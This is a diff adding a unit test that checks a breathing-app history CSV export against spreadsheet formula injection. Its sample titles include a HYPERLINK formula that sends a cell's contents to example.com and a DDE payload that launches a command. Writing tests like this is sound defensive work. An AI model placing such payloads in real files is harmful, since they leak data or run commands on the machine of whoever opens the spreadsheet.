@@ -271,6 +271,43 @@ def test_csv_export_matches_the_history_exactly_and_is_private(tmp_path: Path) -
     assert float(rows[1]["seconds"]) == 12.25
 
 
+def test_csv_export_keeps_a_title_that_looks_like_a_formula_as_text(tmp_path: Path) -> None:
+    """A plan's title comes from whoever wrote the plan: a spreadsheet must show it, never run it (OWASP)."""
+    titles = [
+        '=HYPERLINK("https://example.com/?leak="&A1,"Click for help")',
+        "+1 and a calm breath",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\tTabbed",
+        "\rReturned",
+        "Calm pace = 4 in, 6 out",
+        "Box – 4 + 4",
+    ]
+    with History(history_path(tmp_path)) as history:
+        for n, title in enumerate(titles):
+            add_box(history, n, exercise_id="=cmd|' /C calc'!A0" if n == 0 else f"plan-{n}", exercise_title=title)
+        add_box(history, 20, rating_before=0, rating_after=10)
+        target = tmp_path / "export.csv"
+        history.export_csv(target)
+
+    with target.open(encoding="utf-8", newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    assert [row["exercise_title"] for row in rows] == [
+        '\'=HYPERLINK("https://example.com/?leak="&A1,"Click for help")',
+        "'+1 and a calm breath",
+        "'-2+3",
+        "'@SUM(A1:A9)",
+        "'\tTabbed",
+        "'\rReturned",
+        "Calm pace = 4 in, 6 out",  # only the first character makes a formula
+        "Box – 4 + 4",
+        "Box breathing",
+    ]
+    assert rows[0]["exercise_id"] == "'=cmd|' /C calc'!A0" and rows[1]["exercise_id"] == "plan-1"
+    assert (rows[-1]["rating_before"], rows[-1]["rating_after"], rows[-1]["seconds"]) == ("0", "10", "240.0")
+    assert all(not row["started_at"].startswith("'") for row in rows)  # numbers and times stay numbers and times
+
+
 def test_delete_file_removes_the_history_and_every_kept_copy(tmp_path: Path) -> None:
     path = history_path(tmp_path)
     write_garbage(path)
